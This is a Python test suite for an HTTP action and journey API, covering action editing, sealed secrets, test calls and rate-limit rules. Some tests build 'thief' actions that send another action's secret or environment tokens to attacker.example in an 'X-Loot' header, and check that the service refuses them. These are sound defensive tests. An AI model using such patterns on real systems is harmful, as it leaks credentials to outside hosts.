"""The JSON API: actions, journeys, calls, payload fields and rules, as a client uses them."""

from __future__ import annotations

import json
import sqlite3

import pytest
from service_support import CAPPING, Endpoint, Service, action, client_for, make_app

# A state-changing request without a body says it is no cross-site form (service/security.py).
NO_BODY = {"content-type": "application/json"}


def problems(response) -> dict[str, str]:
    return {p["path"]: p["message"] for p in response.json()["problems"]}


# -- actions ----------------------------------------------------------------------------------


async def test_the_examples_are_loaded_on_first_start_with_used_in(service: Service) -> None:
    listed = (await service.client.get("/actions")).json()["actions"]
    by_name = {a["name"]: a for a in listed}
    assert by_name["loyaltyUpdate"] == {
        "name": "loyaltyUpdate",
        "description": "Push a customer's loyalty status to the retailer's API",
        "method": "POST",
        "host": "myapidomain.com",
        "url": "https://myapidomain.com/v2/loyalty/",
        "authentication": "customAuthorization",
        "usedIn": 1,
        "live": True,
    }
    assert by_name["crmContactUpdate"]["usedIn"] == 0
    journeys = (await service.client.get("/actions/loyaltyUpdate/journeys")).json()["journeys"]
    assert journeys == [{"id": "welcome", "name": "Welcome series", "status": "live"}]


async def test_a_created_action_is_listed_and_read_back(service: Service) -> None:
    created = await service.client.post("/actions", json=action())
    assert created.status_code == 201
    assert created.headers["location"] == "/actions/notify"
    detail = (await service.client.get("/actions/notify")).json()
    assert detail["action"]["endpoint"] == {"url": "https://api.example.com/v1/notify", "method": "POST"}
    assert detail["usedIn"] == [] and detail["readOnly"] is False
    assert detail["variables"]["params"] == {"email": {"label": "Email", "type": "string", "optional": False}}
    names = [a["name"] for a in (await service.client.get("/actions")).json()["actions"]]
    assert "notify" in names


async def test_invalid_actions_answer_422_with_every_wrong_field_path(service: Service) -> None:
    bad = action(name="bad name!", url="ftp://files.example.com/x")
    bad["endpoint"]["method"] = "DELETE"
    bad["request"]["variables"] = {"nope": {"label": "Nope"}}
    answer = await service.client.post("/actions", json=bad)
    assert answer.status_code == 422
    found = problems(answer)
    assert found["name"] == "must be 1 to 30 letters, digits or '_'"
    assert "DELETE is not supported" in found["endpoint.method"]
    # The URL rule and the variable rule are checked once the model parses; fix the first two.
    bad.update(name="ok_name")
    bad["endpoint"]["method"] = "POST"
    again = problems(await service.client.post("/actions", json=bad))
    assert set(again) == {"endpoint.url", "request.variables.nope"}
    assert service.state.store.counts()["actions"] == 7  # nothing saved


async def test_a_name_already_taken_answers_409(service: Service) -> None:
    answer = await service.client.post("/actions", json=action(name="loyaltyUpdate"))
    assert answer.status_code == 409
    assert problems(answer) == {"name": "an action named 'loyaltyUpdate' already exists"}


async def test_bodies_that_are_not_json_are_refused(service: Service) -> None:
    not_json = await service.client.post(
        "/actions", content=b"{nope", headers={"content-type": "application/json"}
    )
    assert not_json.status_code == 400
    form = await service.client.post(
        "/actions", content=b"name=x", headers={"content-type": "text/plain", "x-csrf-token": "script"}
    )
    assert form.status_code == 415
    array = await service.client.post("/actions", json=[1, 2])
    assert array.status_code == 422


async def test_an_update_replaces_the_action(service: Service) -> None:
    await service.client.post("/actions", json=action())
    changed = action(description="Tell someone else")
    changed["endpoint"]["headers"] = [{"name": "x-team", "value": "growth"}]
    answer = await service.client.put("/actions/notify", json=changed)
    assert answer.status_code == 200
    assert answer.json()["action"]["endpoint"]["headers"] == [{"name": "x-team", "value": "growth"}]
    assert json.loads(_row(service, "notify"))["description"] == "Tell someone else"


async def test_an_edit_a_live_journey_forbids_answers_409_with_fields_and_journeys(service: Service) -> None:
    current = (await service.client.get("/actions/loyaltyUpdate")).json()
    assert current["readOnly"] is True and current["liveJourneys"] == ["welcome"]
    document = current["action"]
    document["endpoint"]["method"] = "PUT"
    document["timeout"] = 20
    answer = await service.client.put("/actions/loyaltyUpdate", json=document)
    assert answer.status_code == 409
    assert answer.json()["refused"] == [
        {"field": "endpoint.method", "journeys": ["welcome"]},
        {"field": "timeout", "journeys": ["welcome"]},
    ]
    assert json.loads(_row(service, "loyaltyUpdate"))["endpoint"]["method"] == "POST"


async def test_name_description_url_and_authentication_stay_editable_when_live(service: Service) -> None:
    document = (await service.client.get("/actions/loyaltyUpdate")).json()["action"]
    document["description"] = "new words"
    document["endpoint"]["url"] = "https://myapidomain.com/v3/loyalty/"
    document["name"] = "loyaltyPush"
    answer = await service.client.put("/actions/loyaltyUpdate", json=document)
    assert answer.status_code == 200, answer.text
    journey = (await service.client.get("/journeys/welcome")).json()["journey"]
    assert [n["action"] for n in journey["nodes"]] == ["epsilonSendEmail", "loyaltyPush"]
    assert (await service.client.get("/actions/loyaltyUpdate")).status_code == 404
    # The rename is in the store too: a restart sees the same.
    stored = sqlite3.connect(service.store_path).execute("SELECT document FROM journeys WHERE id='welcome'")
    assert "loyaltyPush" in stored.fetchone()[0]


async def test_duplicate_copies_the_action_and_its_sealed_secrets(service: Service) -> None:
    answer = await service.client.post("/actions/loyaltyUpdate/duplicate", headers=NO_BODY)
    assert answer.status_code == 201
    copy = answer.json()
    assert copy["action"]["name"] == "loyaltyUpdate_copy"
    assert copy["usedIn"] == [] and copy["readOnly"] is False
    original = (await service.client.get("/actions/loyaltyUpdate")).json()["action"]
    secret_of = lambda doc: doc["authentication"]["body"]["bodyParams"]["secret"]  # noqa: E731
    assert secret_of(copy["action"]) != secret_of(original)  # its own copy of the secret
    named = await service.client.post("/actions/loyaltyUpdate/duplicate", json={"name": "loyaltyV2"})
    assert named.json()["action"]["name"] == "loyaltyV2"
    taken = await service.client.post("/actions/loyaltyUpdate/duplicate", json={"name": "loyaltyV2"})
    assert taken.status_code == 409


async def test_delete_refuses_an_action_in_use_and_removes_one_that_is_not(service: Service) -> None:
    used = await service.client.delete("/actions/slackNotify", headers=NO_BODY)
    assert used.status_code == 409
    assert used.json()["refused"] == [{"field": "delete", "journeys": ["cartRecovery"]}]
    before = service.state.store.counts()["secrets"]
    await service.client.post(
        "/actions", json=action(authentication={"type": "basic", "username": "u", "password": "pw"})
    )
    assert service.state.store.counts()["secrets"] == before + 1
    assert (await service.client.delete("/actions/notify", headers=NO_BODY)).status_code == 204
    assert (await service.client.get("/actions/notify")).status_code == 404
    assert service.state.store.counts()["secrets"] == before  # its secret went with it


async def test_validate_checks_without_saving(service: Service) -> None:
    ok = await service.client.post("/actions/validate", json=action())
    assert ok.json() == {"ok": True, "problems": []}
    bad = await service.client.post(
        "/actions/validate",
        json=action(
            authentication={
                "type": "customAuthorization",
                "endpoint": "https://a.example.com/t",
                "method": "POST",
                "tokenInResponse": "json://",
            }
        ),
    )
    assert bad.status_code == 422
    assert set(problems(bad)) == {"authentication.body", "authentication.tokenInResponse"}
    assert (await service.client.get("/actions/notify")).status_code == 404


async def test_a_failure_while_saving_leaves_nothing_half_saved(service: Service, monkeypatch) -> None:
    from actionrt.service.store import Transaction

    def broken(self, name, document):
        raise RuntimeError("disk full")

    monkeypatch.setattr(Transaction, "put_action", broken)
    before = service.state.store.counts()
    with pytest.raises(RuntimeError):
        await service.client.post(
            "/actions", json=action(authentication={"type": "basic", "username": "u", "password": "pw"})
        )
    assert service.state.store.counts() == before  # the sealed secret was rolled back too
    assert service.state.catalog.registry.get("notify") is None


# -- secrets ----------------------------------------------------------------------------------


async def test_secrets_are_sealed_and_never_returned(service: Service) -> None:
    secret = "pw-Zq8-never-shown"
    document = action(authentication={"type": "basic", "username": "ada", "password": secret})
    created = await service.client.post("/actions", json=document)
    assert secret not in created.text
    password = created.json()["action"]["authentication"]["password"]
    assert password.startswith("{{ secrets.console:s_")
    assert created.json()["secrets"] == ["authentication.password"]
    for url in ("/actions", "/actions/notify", "/openapi.json"):
        assert secret not in (await service.client.get(url)).text
    assert secret.encode() not in service.store_path.read_bytes()
    # Sending the document back as shown keeps the stored secret.
    shown = (await service.client.get("/actions/notify")).json()["action"]
    assert (await service.client.put("/actions/notify", json=shown)).status_code == 200
    assert service.state.catalog.read_secret(password.split(":")[1].strip(" }")) == secret


async def test_credentials_in_constant_header_and_query_fields_are_sealed_too(
    service: Service, endpoint: Endpoint
) -> None:
    key, token = "k-Hdr-5531-never-shown", "Bearer t-Qry-7702-never-shown"
    document = action(url=f"{endpoint.base_url}/ok")
    document["endpoint"]["headers"] = [
        {"name": "x-api-key", "value": key},
        {"name": "x-api-version", "value": "2"},
        {"name": "x-request-id", "variable": True, "label": "Request id", "optional": True},
    ]
    document["endpoint"]["queryParameters"] = [{"name": "access_token", "value": token}]
    created = await service.client.post("/actions", json=document)
    assert created.status_code == 201, created.text
    endpoint_shown = created.json()["action"]["endpoint"]
    assert endpoint_shown["headers"][0]["value"].startswith("{{ secrets.console:s_")
    assert endpoint_shown["headers"][1] == {"name": "x-api-version", "value": "2"}  # not a secret
    assert endpoint_shown["queryParameters"][0]["value"].startswith("{{ secrets.console:s_")
    assert created.json()["secrets"] == ["endpoint.headers[0].value", "endpoint.queryParameters[0].value"]
    for url in ("/actions", "/actions/notify", "/console/actions/notify"):
        page = (await service.client.get(url)).text
        assert key not in page and token not in page
    service.client.cookies.clear()  # the console page handed out its CSRF cookie
    assert key.encode() not in service.store_path.read_bytes()
    assert token.encode() not in service.store_path.read_bytes()

    # The call sends the values; a test request may replace one for that call only.
    invoked = await service.client.post("/actions/notify/invoke", json={"params": {"email": "a@example.com"}})
    assert invoked.json()["status"] == "http_200", invoked.text
    sent = endpoint.received[-1]
    assert (sent.headers["x-api-key"], sent.query["access_token"]) == (key, token)
    await service.client.post(
        "/actions/notify/test",
        json={"params": {"email": "a@example.com"}, "credentials": {"endpoint.headers[0].value": "typed"}},
    )
    assert endpoint.received[-1].headers["x-api-key"] == "typed"

    # Sending the document back as shown keeps the sealed values, even once a live journey pins
    # the headers.
    journey = {
        "id": "pinning",
        "name": "Pinning",
        "status": "live",
        "nodes": [{"id": "n", "action": "notify", "mappings": {"params": {"email": "{{ profile.email }}"}}}],
    }
    assert (await service.client.post("/journeys", json=journey)).status_code == 201
    shown = (await service.client.get("/actions/notify")).json()["action"]
    shown["description"] = "Edited while live"
    assert (await service.client.put("/actions/notify", json=shown)).status_code == 200
    assert (await service.client.get("/actions/notify")).json()["action"]["endpoint"] == endpoint_shown


async def test_a_reference_to_an_unknown_console_secret_is_refused(service: Service) -> None:
    document = action(
        authentication={
            "type": "basic",
            "username": "u",
            "password": "{{ secrets.console:s_0000000000000000 }}",
        }
    )
    answer = await service.client.post("/actions", json=document)
    assert answer.status_code == 422
    assert problems(answer) == {"authentication.password": "unknown console secret 's_0000000000000000'"}


async def test_a_sealed_secret_belongs_to_its_action_and_no_other_may_reference_it(
    service: Service,
) -> None:
    owner = action(name="owner", authentication={"type": "basic", "username": "u", "password": "p4ss"})
    assert (await service.client.post("/actions", json=owner)).status_code == 201
    stored = (await service.client.get("/actions/owner")).json()["action"]
    reference = stored["authentication"]["password"]
    secret_id = reference.split(":")[1].strip(" }")

    # A new action naming it, in its authentication or in a header sent anywhere: refused.
    thief = action(name="thief", url="https://attacker.example/collect")
    thief["endpoint"]["headers"] = [{"name": "X-Loot", "value": reference}]
    answer = await service.client.post("/actions", json=thief)
    assert answer.status_code == 422
    assert problems(answer) == {
        "endpoint.headers[0].value": f"console secret {secret_id!r} belongs to another action: "
        "type the value again to seal a copy for this one"
    }
    assert (await service.client.get("/actions/thief")).status_code == 404

    # An existing action edited to name it: refused, and it stays as it was; validate says so too.
    assert (await service.client.post("/actions", json=action(name="other"))).status_code == 201
    edited = action(name="other", authentication={"type": "basic", "username": "u", "password": reference})
    assert (await service.client.put("/actions/other", json=edited)).status_code == 422
    assert (await service.client.post("/actions/validate?replacing=other", json=edited)).status_code == 422
    assert "authentication" not in (await service.client.get("/actions/other")).json()["action"]

    # Its own action re-saves it as it is, renamed or not.
    stored["description"] = "Still mine"
    assert (await service.client.put("/actions/owner", json=stored)).status_code == 200
    stored["name"] = "owner2"
    assert (await service.client.put("/actions/owner", json=stored)).status_code == 200
    again = (await service.client.get("/actions/owner2")).json()["action"]
    assert again["authentication"]["password"] == reference


async def test_an_action_naming_an_environment_variable_it_may_not_read_is_refused_at_save(
    service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ACTIONRT_API_TOKEN", "the-api-token")
    monkeypatch.delenv("ACTIONRT_ENV_SECRETS", raising=False)
    thief = action(name="thief", url="https://attacker.example/collect")
    thief["endpoint"]["headers"] = [
        {"name": "X-Key", "value": "{{ secrets.ACTIONRT_API_TOKEN }}"},
        {"name": "X-Home", "value": "{{ secrets.HOME }}"},
    ]
    answer = await service.client.post("/actions", json=thief)
    assert answer.status_code == 422
    found = problems(answer)
    assert found["endpoint.headers[0].value"] == (
        "secret 'ACTIONRT_API_TOKEN' may not be read: "
        "ACTIONRT_* variables are actionrt's own settings, never secrets"
    )
    assert found["endpoint.headers[1].value"].startswith("secret 'HOME' may not be read from the environment")
    assert (await service.client.get("/actions/thief")).status_code == 404
    assert "the-api-token" not in answer.text


async def test_the_service_reads_the_environment_variables_the_operator_allows(
    tmp_path, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CRM_TOKEN", "crm-token-7")
    monkeypatch.setenv("PAYROLL_TOKEN", "payroll-token")
    app = make_app(tmp_path, examples=None, env_secrets=["CRM_*"])
    async with client_for(app) as client:
        allowed = action(
            url=f"{endpoint.base_url}/ok",
            authentication={"type": "bearer", "token": "{{ secrets.CRM_TOKEN }}"},
        )
        assert (await client.post("/actions", json=allowed)).status_code == 201
        answer = await client.post("/actions/notify/invoke", json={"params": {"email": "a@example.com"}})
        assert answer.json()["status"] == "http_200"
        assert endpoint.received[-1].headers["Authorization"] == "Bearer crm-token-7"
        other = action(
            name="payroll", authentication={"type": "bearer", "token": "{{ secrets.PAYROLL_TOKEN }}"}
        )
        assert (await client.post("/actions", json=other)).status_code == 422
    await app.state.service.calls.aclose()


async def test_a_stored_action_reading_a_variable_no_longer_allowed_is_skipped_at_load(
    tmp_path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from actionrt.service.catalog import Catalog
    from actionrt.service.store import Store

    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", "CRM_TOKEN")
    app = make_app(tmp_path, examples=None)
    async with client_for(app) as client:
        crm = action(name="crm", authentication={"type": "bearer", "token": "{{ secrets.CRM_TOKEN }}"})
        assert (await client.post("/actions", json=crm)).status_code == 201
        assert (await client.post("/actions", json=action(name="plain"))).status_code == 201
    await app.state.service.calls.aclose()
    app.state.service.store.close()

    monkeypatch.delenv("ACTIONRT_ENV_SECRETS")  # the operator no longer allows it
    store = Store(tmp_path / "store.db")
    catalog = Catalog(store, app.state.service.catalog.vault, entry_points=False)
    skipped = catalog.load()
    assert list(catalog.registry.actions) == ["plain"]
    assert [str(p) for p in skipped] == [
        "<store>/actions/crm: authentication.token: secret 'CRM_TOKEN' may not be read from the "
        "environment: the operator allows names with env_secrets=['CRM_TOKEN'] (serve --env-secret "
        "CRM_TOKEN, or ACTIONRT_ENV_SECRETS=CRM_TOKEN)"
    ]
    store.close()


# -- calls ------------------------------------------------------------------------------------


async def test_invoke_calls_the_endpoint_and_returns_the_result(service: Service, endpoint: Endpoint) -> None:
    await service.client.post("/actions", json=action(url=f"{endpoint.base_url}/ok"))
    answer = await service.client.post(
        "/actions/notify/invoke", json={"params": {"email": "grace@example.com"}}
    )
    result = answer.json()
    assert answer.status_code == 200
    assert (result["status"], result["ok"], result["httpStatus"], result["attempts"]) == (
        "http_200",
        True,
        200,
        1,
    )
    assert result["response"] == {"messageId": "m-1", "status": "queued"}
    assert result["journeyFields"]["jo_status_code"] == "http_200"
    assert endpoint.received[-1].body == {"email": "grace@example.com", "count": 1}


async def test_invoke_reports_bad_input_as_a_result_and_unknown_fields_as_422(service: Service) -> None:
    await service.client.post("/actions", json=action())
    missing = (await service.client.post("/actions/notify/invoke", json={})).json()
    assert missing["status"] == "internalError" and "email" in missing["error"]
    wrong = await service.client.post("/actions/notify/invoke", json={"parms": {}, "timeout": 90})
    assert set(problems(wrong)) == {"parms", "timeout"}
    assert (await service.client.post("/actions/nothere/invoke", json={})).status_code == 404


async def test_recent_calls_count_by_status(service: Service, endpoint: Endpoint) -> None:
    await service.client.post("/actions", json=action(url=f"{endpoint.base_url}/ok"))
    await service.client.post("/actions", json=action(name="broken", url=f"{endpoint.base_url}/missing"))
    for _ in range(2):
        await service.client.post("/actions/notify/invoke", json={"params": {"email": "a@example.com"}})
    await service.client.post("/actions/notify/invoke", json={})
    await service.client.post("/actions/broken/invoke", json={"params": {"email": "a@example.com"}})
    calls = (await service.client.get("/actions/notify/calls")).json()
    assert calls["counts"] == {"http_200": 2, "internalError": 1}
    assert [c["status"] for c in calls["calls"]] == ["internalError", "http_200", "http_200"]
    assert (await service.client.get("/actions/broken/calls")).json()["counts"] == {"http_404": 1}


async def test_recent_calls_carry_the_id_of_their_details(service: Service, endpoint: Endpoint) -> None:
    await service.client.post("/actions", json=action(url=f"{endpoint.base_url}/ok"))
    invoked = await service.client.post("/actions/notify/invoke", json={"params": {"email": "a@example.com"}})
    tested = await service.client.post("/actions/notify/test", json={"params": {"email": "b@example.com"}})
    missing = await service.client.post("/actions/notify/invoke", json={})
    ids = [answer.json()["callId"] for answer in (missing, tested, invoked)]  # newest first
    assert all(ids) and len(set(ids)) == 3
    rows = (await service.client.get("/actions/notify/calls")).json()["calls"]
    assert [(row["callId"], row["kind"], row["status"]) for row in rows] == [
        (ids[0], "invoke", "internalError"),
        (ids[1], "test", "http_200"),
        (ids[2], "invoke", "http_200"),
    ]
    details = (await service.client.get(f"/actions/notify/calls/{rows[1]['callId']}")).json()
    assert (details["status"], details["attempts"]) == ("http_200", 1)
    assert details["requests"][0]["request"]["url"] == f"{endpoint.base_url}/ok"


# The calls table before call ids were kept (a store written by an earlier version).
CALLS_BEFORE_CALL_IDS = """
CREATE TABLE calls (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    action TEXT NOT NULL,
    at REAL NOT NULL,
    kind TEXT NOT NULL CHECK (kind IN ('invoke', 'test')),
    status TEXT NOT NULL,
    ok INTEGER NOT NULL,
    http_status INTEGER,
    attempts INTEGER NOT NULL,
    elapsed REAL NOT NULL,
    error TEXT
);
INSERT INTO calls (action, at, kind, status, ok, http_status, attempts, elapsed, error)
VALUES ('notify', 1800000000.0, 'invoke', 'http_200', 1, 200, 1, 0.01, NULL);
"""


def test_a_store_from_before_call_ids_gains_the_column_and_keeps_its_rows(tmp_path) -> None:
    from actionrt.service.store import CallRow, Store

    path = tmp_path / "store.db"
    old = sqlite3.connect(path)
    old.executescript(CALLS_BEFORE_CALL_IDS)
    old.close()
    store = Store(path)
    store.add_calls(
        [CallRow(0, "notify", 1800000001.0, "test", "http_503", False, 503, 2, 0.5, "503", "c-1")]
    )
    assert [(row.status, row.call_id) for row in store.recent_calls("notify")] == [
        ("http_503", "c-1"),
        ("http_200", None),  # recorded before call ids were kept
    ]
    store.close()
    again = Store(path)  # opening a migrated store changes nothing
    assert [row.call_id for row in again.recent_calls("notify")] == ["c-1", None]
    again.close()


async def test_send_test_request_uses_reentered_credentials_and_never_stores_them(
    service: Service, endpoint: Endpoint
) -> None:
    stored, typed = "stored-pw", "typed-again-pw"
    await service.client.post(
        "/actions",
        json=action(
            url=f"{endpoint.base_url}/ok",
            authentication={"type": "basic", "username": "ada", "password": stored},
        ),
    )
    answer = await service.client.post(
        "/actions/notify/test",
        json={"params": {"email": "a@example.com"}, "credentials": {"authentication.password": typed}},
    )
    result = answer.json()
    assert result["status"] == "http_200"
    # The answer lacks `sent` no field of the example and has the same types.
    assert result["structure"] == {"ok": True, "problems": []}
    assert endpoint.basic_credentials() == f"ada:{typed}"
    assert typed.encode() not in service.store_path.read_bytes()
    assert typed not in (await service.client.get("/actions/notify")).text
    # Left out, the stored credentials are used.
    await service.client.post("/actions/notify/test", json={"params": {"email": "a@example.com"}})
    assert endpoint.basic_credentials() == f"ada:{stored}"
    counts = (await service.client.get("/actions/notify/calls")).json()["counts"]
    assert counts == {"http_200": 2}


async def test_credentials_read_from_the_environment_can_be_re_entered_for_a_test(
    service: Service, endpoint: Endpoint, monkeypatch
) -> None:
    # The examples' smsSend, crmContactUpdate and storeWeather read theirs from the environment:
    # a test must not need the service restarted with those variables set.
    monkeypatch.delenv("SVC_USER_T1", raising=False)
    monkeypatch.delenv("SVC_PASSWORD_T1", raising=False)
    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", "SVC_USER_T1,SVC_PASSWORD_T1")
    document = action(
        url=f"{endpoint.base_url}/ok",
        authentication={
            "type": "basic",
            "username": "{{ secrets.SVC_USER_T1 }}",
            "password": "{{ secrets.SVC_PASSWORD_T1 }}",
        },
    )
    created = (await service.client.post("/actions", json=document)).json()
    assert created["secrets"] == []  # nothing sealed: references are kept as written
    assert created["references"] == ["SVC_USER_T1", "SVC_PASSWORD_T1"]

    call = {"params": {"email": "a@example.com"}}
    missing = await service.client.post("/actions/notify/test", json=call)
    assert missing.status_code == 422
    assert problems(missing) == {
        "authentication.username": "secret 'SVC_USER_T1' is not set",
        "authentication.password": "secret 'SVC_PASSWORD_T1' is not set",
    }
    typed = {"secrets.SVC_USER_T1": "ada", "secrets.SVC_PASSWORD_T1": "typed-pw-4410"}
    answer = await service.client.post("/actions/notify/test", json={**call, "credentials": typed})
    assert answer.json()["status"] == "http_200", answer.text
    assert endpoint.basic_credentials() == "ada:typed-pw-4410"
    check = await service.client.post("/actions/notify/check-authentication", json={"credentials": typed})
    assert check.json() == {"ok": True, "message": "would send Authorization: Basic *** (username ada)"}
    assert b"typed-pw-4410" not in service.store_path.read_bytes()
    unknown = await service.client.post(
        "/actions/notify/test", json={**call, "credentials": {"secrets.OTHER": "x"}}
    )
    assert problems(unknown) == {"credentials.secrets.OTHER": "the action reads no secret OTHER"}

    page = (await service.client.get("/console/actions/notify")).text
    assert 'data-credential="secrets.SVC_PASSWORD_T1"' in page
    assert ">SVC_PASSWORD_T1 (environment) <code>{{ secrets.SVC_PASSWORD_T1 }}</code></label>" in page
    assert 'placeholder="{{ secrets.SVC_PASSWORD_T1 }} — type to replace"' in page


async def test_send_test_request_reports_structure_differences(service: Service, endpoint: Endpoint) -> None:
    document = action(url=f"{endpoint.base_url}/ok", response={"sample": {"messageId": 1, "queuedAt": "x"}})
    await service.client.post("/actions", json=document)
    result = (
        await service.client.post("/actions/notify/test", json={"params": {"email": "a@example.com"}})
    ).json()
    assert result["structure"] == {
        "ok": False,
        "problems": [
            {"path": "messageId", "message": "is string, the example has integer"},
            {"path": "queuedAt", "message": "missing from the response"},
        ],
    }


async def test_test_credentials_must_name_a_stored_secret(service: Service) -> None:
    await service.client.post("/actions", json=action())
    answer = await service.client.post(
        "/actions/notify/test", json={"credentials": {"authentication.password": "x"}}
    )
    assert answer.status_code == 422
    assert set(problems(answer)) == {"credentials.authentication.password"}


async def test_check_the_authentication_calls_only_the_token_endpoint(
    service: Service, endpoint: Endpoint
) -> None:
    custom = {
        "type": "customAuthorization",
        "endpoint": f"{endpoint.base_url}/token",
        "method": "POST",
        "headers": {"Authorization": "Basic EncodeBase64(id:wrong)"},
        "body": {"bodyType": "form", "bodyParams": {"grant_type": "client_credentials"}},
        "tokenInResponse": "json://access_token",
    }
    created = (
        await service.client.post(
            "/actions", json=action(url=f"{endpoint.base_url}/ok", authentication=custom)
        )
    ).json()
    header = created["action"]["authentication"]["headers"]["Authorization"]
    assert header.startswith("Basic EncodeBase64({{ secrets.console:s_") and "wrong" not in header
    failed = (await service.client.post("/actions/notify/check-authentication", json={})).json()
    assert failed["ok"] is False and "401" in failed["message"]
    fixed = await service.client.post(
        "/actions/notify/check-authentication",
        json={"credentials": {"authentication.headers.Authorization": "id:right"}},
    )
    assert fixed.json()["ok"] is True
    assert [r.path for r in endpoint.received] == ["/token", "/token"]


# -- journeys ---------------------------------------------------------------------------------


async def test_journeys_list_get_and_create(service: Service) -> None:
    await service.client.post("/actions", json=action())
    journey = {
        "id": "notifyFlow",
        "name": "Notify flow",
        "status": "draft",
        "nodes": [{"id": "n1", "action": "notify", "mappings": {"params": {"email": "{{ profile.email }}"}}}],
    }
    created = await service.client.post("/journeys", json=journey)
    assert created.status_code == 201
    listed = (await service.client.get("/journeys")).json()["journeys"]
    assert {"id": "notifyFlow", "name": "Notify flow", "status": "draft", "actions": ["notify"]} in listed
    assert (await service.client.get("/journeys/notifyFlow")).json()["journey"]["nodes"][0][
        "action"
    ] == "notify"
    summary = next(
        a for a in (await service.client.get("/actions")).json()["actions"] if a["name"] == "notify"
    )
    assert summary["usedIn"] == 1
    assert (await service.client.get("/journeys/none")).status_code == 404


async def test_a_journey_must_name_existing_actions_and_map_their_variables(service: Service) -> None:
    journey = {
        "id": "j",
        "name": "J",
        "nodes": [{"id": "n", "action": "ghost"}, {"id": "m", "action": "loyaltyUpdate"}],
    }
    answer = await service.client.post("/journeys", json=journey)
    assert answer.status_code == 422
    assert set(problems(answer)) == {
        "nodes[0].action",
        "nodes[1].mappings.params.customer.email",
    }
    assert "j" not in [j["id"] for j in (await service.client.get("/journeys")).json()["journeys"]]


# -- payload ----------------------------------------------------------------------------------


async def test_payload_fields_gives_the_message_parameter_table(service: Service) -> None:
    sample = {
        "customer": {"email": "a@example.com", "tags": ["a"]},
        "items": [{"sku": "x", "qty": 1}],
        "mixed": [1, "a"],
    }
    rows = (await service.client.post("/payload/fields", json={"sample": sample})).json()["fields"]
    table = {r["path"]: (r["type"], r["canBeVariable"]) for r in rows}
    assert table == {
        "customer": ("object", False),
        "customer.email": ("string", True),
        "customer.tags": ("listString", True),
        "items": ("listObject", True),
        "items.sku": ("string", False),
        "items.qty": ("integer", False),
        "mixed": ("listAny", False),
    }
    bad = await service.client.post("/payload/fields", json={"sample": {"a.b": 1, "$x": 2}})
    assert set(problems(bad)) == {"sample.a.b", "sample.$x"}


# -- capping and throttling rules -------------------------------------------------------------


async def test_rules_are_created_deployed_undeployed_listed_and_deleted(service: Service) -> None:
    created = await service.client.post("/limits/capping", json=CAPPING)
    assert created.status_code == 201
    rule = created.json()
    assert rule["deployed"] is False and rule["kind"] == "capping"
    assert (await service.client.post("/limits/capping", json=CAPPING)).status_code == 200  # same rule
    uid = rule["uid"]
    limits = service.state.calls.limits
    assert limits.matching("POST", "https://api.example.com/v1/x") == []
    deployed = await service.client.post(f"/limits/rules/{uid}/deploy", headers=NO_BODY)
    assert deployed.json()["deployed"] is True
    assert len(limits.matching("POST", "https://api.example.com/v1/x")) == 1
    assert (await service.client.delete(f"/limits/rules/{uid}", headers=NO_BODY)).status_code == 409
    throttling = {"urlPattern": "https://api.example.com/*", "methods": ["POST"], "maxThroughput": 300}
    await service.client.post("/limits/throttling", json=throttling)
    listed = (await service.client.get("/limits/rules")).json()["rules"]
    assert [(r["kind"], r["deployed"]) for r in listed] == [("capping", True), ("throttling", False)]
    assert len((await service.client.get("/limits/rules?kind=throttling")).json()["rules"]) == 1
    await service.client.post(f"/limits/rules/{uid}/undeploy", headers=NO_BODY)
    assert limits.matching("POST", "https://api.example.com/v1/x") == []
    assert (await service.client.delete(f"/limits/rules/{uid}", headers=NO_BODY)).status_code == 204
    assert (await service.client.get(f"/limits/rules/{uid}")).status_code == 404


async def test_invalid_rules_name_their_fields(service: Service) -> None:
    bad = {
        "url": "https://*.example.com/",
        "methods": "POST",
        "services": {"action": {"maxCallsCount": 1, "periodInMs": 0}},
    }
    answer = await service.client.post("/limits/capping", json=bad)
    assert answer.status_code == 422
    assert set(problems(answer)) == {
        "url",
        "methods",
        "services.action.rating.maxCallsCount",
        "services.action.rating.periodInMs",
    }
    slow = await service.client.post(
        "/limits/throttling", json={"urlPattern": "*", "methods": ["GET"], "maxThroughput": 10}
    )
    assert set(problems(slow)) == {"maxThroughput"}


async def test_deployed_rules_survive_a_restart(service: Service) -> None:
    uid = (await service.client.post("/limits/capping", json=CAPPING)).json()["uid"]
    await service.client.post(f"/limits/rules/{uid}/deploy", headers=NO_BODY)
    restarted = _restart(service)
    assert [(e.uid, e.deployed) for e in restarted.limits.rules()] == [(uid, True)]


def _restart(service: Service):
    from actionrt.service.calls import Calls
    from actionrt.service.catalog import Catalog
    from actionrt.service.rules import Rules
    from actionrt.service.store import Store

    store = Store(service.store_path)
    catalog = Catalog(store, service.state.catalog.vault, entry_points=False)
    catalog.load()
    calls = Calls(catalog, store)
    rules = Rules(store, calls.limits)
    assert len(catalog.registry.actions) == 7
    return rules


def _row(service: Service, name: str) -> str:
    db = sqlite3.connect(service.store_path)
    return db.execute("SELECT document FROM actions WHERE name = ?", (name,)).fetchone()[0]


async def test_results_and_recent_calls_say_whether_anything_was_sent(
    service: Service, endpoint: Endpoint
) -> None:
    import socket

    with socket.socket() as probe:  # a loopback port nobody listens on: every connect is refused
        probe.bind(("127.0.0.1", 0))
        closed = probe.getsockname()[1]
    await service.client.post("/actions", json=action(url=f"{endpoint.base_url}/ok"))
    await service.client.post("/actions", json=action(name="nowhere", url=f"http://127.0.0.1:{closed}/ok"))
    call = {"params": {"email": "a@example.com"}}
    answered = (await service.client.post("/actions/notify/invoke", json=call)).json()
    refused = (await service.client.post("/actions/nowhere/invoke", json=call)).json()
    assert (answered["status"], answered["attempts"], answered["sent"]) == ("http_200", 1, True)
    assert (refused["attempts"], refused["sent"]) == (0, False)  # safe to resend
    recent = (await service.client.get("/actions/nowhere/calls")).json()["calls"]
    assert [(c["attempts"], c["sent"]) for c in recent] == [(0, False)]
    assert (await service.client.get("/actions/notify/calls")).json()["calls"][0]["sent"] is True
